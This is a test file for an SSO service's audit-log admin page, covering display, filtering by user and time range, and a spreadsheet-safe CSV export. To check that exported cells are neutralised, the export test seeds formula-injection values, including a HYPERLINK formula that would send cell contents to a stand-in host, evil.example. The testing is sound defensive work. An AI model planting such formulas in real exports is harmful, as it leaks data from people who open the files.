// The audit log as an admin reads it: readable cells, detail as key: value with only what changed,
// filters by part of a user's email or id and by time range, and a spreadsheet-safe CSV export.
import { env } from 'cloudflare:workers';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/audit/csv';
import { parseFilterTime } from '../../src/audit/query';
import { parseCsv } from '../../src/users/csv';
import { admin, auditPage, auditUntil, Browser, createUser, PASSWORD, unique } from '../helpers';

async function signedInAdmin() {
  const user = await createUser({ roles: ['admin'] });
  const browser = new Browser();
  expect((await browser.signInThrough('/admin/audit', user.email, PASSWORD)).status).toBe(200);
  return { browser, user };
}

async function page(browser: Browser, path: string, status = 200) {
  const res = await browser.fetch(path);
  const html = await res.text();
  expect(res.status, html.slice(0, 300)).toBe(status);
  return html;
}

/** An event written straight into D1 at a chosen time, as the audit writer would have. */
async function eventAt(iso: string, target: string, detail: Record<string, unknown> = {}, type = 'app.update') {
  await env.DB.prepare("insert into audit_events (at, type, actor, target, client_ip, detail) values (?, ?, 'admin-api', ?, '198.51.100.7', ?)")
    .bind(Date.parse(iso) / 1000, type, target, JSON.stringify(detail))
    .run();
}

const rowsOf = (html: string) => html.split('<tr>').slice(2); // after the header row

describe('the audit page', () => {
  it('shows the time on one line and the detail as key: value, with only the fields that changed', async () => {
    const target = await createUser({ name: 'Before' });
    const { browser } = await signedInAdmin();
    expect((await admin('PATCH', `/users/${target.id}`, { name: 'After', email: target.email })).status).toBe(200);
    await auditUntil(`type=user.update&user=${target.id}`, (e) => e.length > 0);
    const html = await page(browser, `/admin/audit?type=user.update&user=${target.id}`);
    const rows = rowsOf(html);
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    expect(row).toMatch(/<td data-label="Time \(UTC\)" class="time"><time datetime="[^"]+">\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}<\/time><\/td>/);
    // Only the changed field, old → new: the email was sent unchanged.
    expect(row).toContain('<dt>name:</dt> <dd>Before → After</dd>');
    expect(row).not.toContain('<dt>email:</dt>');
    expect(row).not.toContain('{&quot;');
    expect(row).not.toContain('<code>');
    expect(row).toContain(`<span title="${target.id}">${target.email}</span>`);
  });

  it('finds a user’s events by part of their email or id, and not other users’ events', async () => {
    const tag = unique('partial');
    const mine = await createUser({ email: `${tag}@example.com` });
    const other = await createUser();
    for (const u of [mine, other]) await admin('PATCH', `/users/${u.id}`, { name: `Renamed ${u.id}` });
    await auditUntil(`type=user.update&user=${other.id}`, (e) => e.length > 0);
    await auditUntil(`type=user.update&user=${mine.id}`, (e) => e.length > 0);
    const { browser } = await signedInAdmin();
    for (const part of [tag.slice(0, tag.length - 1).toUpperCase(), mine.id.slice(4, 20)]) {
      const html = await page(browser, `/admin/audit?type=user.update&user=${encodeURIComponent(part)}`);
      expect(html).toContain(mine.email);
      expect(html).not.toContain(other.email);
    }
    // The API filters the same way.
    const api = await auditPage(`type=user.update&user=${encodeURIComponent(tag.slice(2))}`);
    expect(api.events.map((e) => e.target)).toEqual([mine.id]);
  });

  it('filters by a time range (UTC), and explains an unreadable or reversed range with 400', async () => {
    const target = unique('ranged');
    await eventAt('2020-01-15T10:00:00Z', target, { n: 'january' });
    await eventAt('2020-06-01T08:30:00Z', target, { n: 'june' });
    await eventAt('2020-06-30T23:59:30Z', target, { n: 'june-end' });
    await eventAt('2020-07-01T00:00:00Z', target, { n: 'july' });
    const { browser } = await signedInAdmin();
    const html = await page(browser, `/admin/audit?user=${target}&from=2020-06-01&to=2020-06-30`);
    expect(rowsOf(html).map((r) => /<dt>n:<\/dt> <dd>([a-z-]+)<\/dd>/.exec(r)?.[1])).toEqual(['june-end', 'june']);
    const minutes = await page(browser, `/admin/audit?user=${target}&from=2020-06-01T08%3A31&to=2020-07-01T00%3A00`);
    expect(rowsOf(minutes).map((r) => /<dd>([a-z-]+)<\/dd>/.exec(r)?.[1])).toEqual(['july', 'june-end']);
    const api = await auditPage(`user=${target}&from=2020-01-01T00:00:00Z&to=2020-01-31`);
    expect(api.events.map((e) => e.detail)).toEqual([{ n: 'january' }]);

    const bad = await page(browser, `/admin/audit?from=yesterday`, 400);
    expect(bad).toContain('must be a date such as 2026-05-01');
    expect(await page(browser, `/admin/audit?from=2020-07-01&to=2020-06-01`, 400)).toContain('must not be before the start of the range');
    expect((await admin('GET', '/audit?to=2020-02-30')).status).toBe(400);
  });

  it('exports the filtered events as CSV whose cells cannot run as spreadsheet formulas', async () => {
    const target = `=HYPERLINK("https://evil.example/?"&A1,"click")-${unique('csv')}`;
    await eventAt('2021-03-04T05:06:07Z', target, { note: '+SUM(1,2)', who: '@admin', tab: '\tcmd', minus: '-1', plain: 'ok, fine' });
    const { browser } = await signedInAdmin();
    const filters = `user=${encodeURIComponent(target.slice(-20))}&from=2021-03-04`;
    // The page's Export CSV link carries the filters.
    const href = /href="(\/admin\/audit\/export\.csv\?[^"]+)"/.exec(await page(browser, `/admin/audit?${filters}`))?.[1]?.replace(/&amp;/g, '&');
    expect(new URL(href!, 'https://x').searchParams.get('from')).toBe('2021-03-04');
    const res = await browser.fetch(href!);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="edge-sso-audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    const rows = parseCsv(await res.text());
    expect(rows[0]).toEqual(['time_utc', 'type', 'actor', 'actor_email', 'target', 'target_email', 'client_ip', 'detail']);
    expect(rows).toHaveLength(2);
    expect(rows[1]).toEqual(['2021-03-04T05:06:07.000Z', 'app.update', 'admin-api', '', `'${target}`, '', '198.51.100.7', "note: +SUM(1,2); who: @admin; tab: \tcmd; minus: -1; plain: ok, fine"]);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect((await browser.fetch('/admin/audit/export.csv?from=never')).status).toBe(400);
  });
});

describe('csvCell', () => {
  it('reads back as the same text, with a leading quote exactly when the text could start a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.string(), (text, other) => {
        const [row] = parseCsv(csvLine([text, 'x', other]));
        const dangerous = /^[=+\-@\t\r]/.test(text);
        expect(row![0]).toBe(dangerous ? `'${text}` : text);
        expect(row![1]).toBe('x');
        expect(row![0]).not.toMatch(/^[=+\-@\t\r]/);
      }),
      { numRuns: 500 },
    );
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('say "hi", then')).toBe('"say ""hi"", then"');
  });
});

describe('parseFilterTime', () => {
  it('reads dates and datetime-local values as UTC, a bare end date as the end of that day', () => {
    expect(parseFilterTime('2020-06-01', false)).toBe(Date.UTC(2020, 5, 1) / 1000);
    expect(parseFilterTime('2020-06-01', true)).toBe(Date.UTC(2020, 5, 1, 23, 59, 59) / 1000);
    expect(parseFilterTime('2020-06-01T08:30', true)).toBe(Date.UTC(2020, 5, 1, 8, 30, 59) / 1000);
    expect(parseFilterTime('2020-06-01T08:30:15Z', false)).toBe(Date.UTC(2020, 5, 1, 8, 30, 15) / 1000);
    for (const bad of ['2020-02-30', '2020-13-01', 'tomorrow', '2020-06-01T25:00', '1e9', '']) expect(parseFilterTime(bad, false)).toBeNull();
  });
});
